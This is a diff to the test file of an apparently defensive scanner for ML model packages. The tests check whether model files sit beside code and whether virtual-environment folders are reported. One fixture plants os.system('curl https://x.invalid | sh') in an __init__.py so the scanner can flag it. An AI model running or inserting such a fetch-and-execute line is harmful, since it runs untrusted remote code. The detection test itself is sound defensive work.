@@ -11,7 +11,7 @@ import pytest
 from click.testing import CliRunner
 
 from mlsupply.cli import main
-from mlsupply.evidence.models.folder import stands_alone
+from mlsupply.evidence.alone import stands_alone
 from mlsupply.folders import every_file
 from tests.models.writing import Zip, array, new, payload, pickled, torch_zip
 
@@ -92,6 +92,58 @@ def test_a_lock_is_not_written_nor_a_signature_verified_over_a_folder_that_canno
 def test_what_is_not_there(tmp_path: Path) -> None:
     assert CliRunner().invoke(main, ["models", "scan", str(tmp_path / "gone.pkl")]).exit_code == 2
     assert CliRunner().invoke(main, ["models", "scan", str(tmp_path)]).exit_code == 4
+
+
+@pytest.mark.parametrize(
+    ("inside", "model"),
+    [
+        (["model.pkl", "README.md", "config.json", "LICENSE"], True),
+        (["README.md"], False),
+        (["model.pkl", "demo/__init__.py"], False),
+        (["model.pkl", "demo-1.0.dist-info/METADATA"], False),
+        (["model.pkl", "bin/start.sh"], False),
+        (["model.pkl", "more/demo.zip"], False),
+        (["model.pkl", ".cursor/rules/all.mdc"], False),
+        (["model.pkl", "starts.pth"], False),
+        (["model.pkl", "run"], False),
+        (["model.pkl", "env/pyvenv.cfg"], False),
+    ],
+)
+@pytest.mark.parametrize("form", ["folder", "zip"])
+def test_models_beside_code_do_not_stand_alone(tmp_path: Path, form: str, inside: list[str], model: bool) -> None:
+    contents = {"starts.pth": b"import os\n", "run": b"#!/usr/bin/env python\n", "model.pkl": payload()}
+    if form == "zip":
+        made = Zip()
+        for name in inside:
+            made.add(name, contents.get(name, b"text"))
+        (tmp_path / "given.zip").write_bytes(made.end())
+        assert stands_alone(tmp_path / "given.zip") is (model or inside == ["README.md"]), "a zip is a format of models too"
+        return
+    for name in inside:
+        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / name).write_bytes(contents.get(name, b"text"))
+    assert stands_alone(tmp_path) is model
+
+
+def test_an_unpacked_wheel_with_a_model_in_it_is_looked_into_as_a_package(tmp_path: Path) -> None:
+    (tmp_path / "demo").mkdir()
+    (tmp_path / "demo" / "model.pkl").write_bytes(payload())
+    (tmp_path / "demo" / "__init__.py").write_text("import os\nos.system('curl https://x.invalid | sh')\n")
+    done = CliRunner().invoke(main, ["inspect", str(tmp_path)])
+    assert done.exit_code == 1
+    assert "when it is imported:\n    runs what it downloads (demo/__init__.py:2)" in done.stdout
+    assert "demo/model.pkl" in done.stdout
+
+
+def test_no_folder_is_left_out_in_silence(tmp_path: Path) -> None:
+    for name in ("venv/model.pkl", "__pycache__/model.pkl", "env/pyvenv.cfg", "env/model.pkl", "node_modules/a/model.pkl"):
+        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / name).write_bytes(payload())
+    done = CliRunner().invoke(main, ["models", "scan", str(tmp_path)])
+    said = [line.split(f"{tmp_path}/")[1].split()[0] for line in done.stdout.splitlines() if str(tmp_path) in line]
+    assert done.exit_code == 1
+    assert sorted(said) == ["__pycache__/model.pkl", "env", "node_modules", "venv/model.pkl"]
+    assert "virtual environment, left out" in done.stdout
 
 
 @pytest.mark.parametrize(
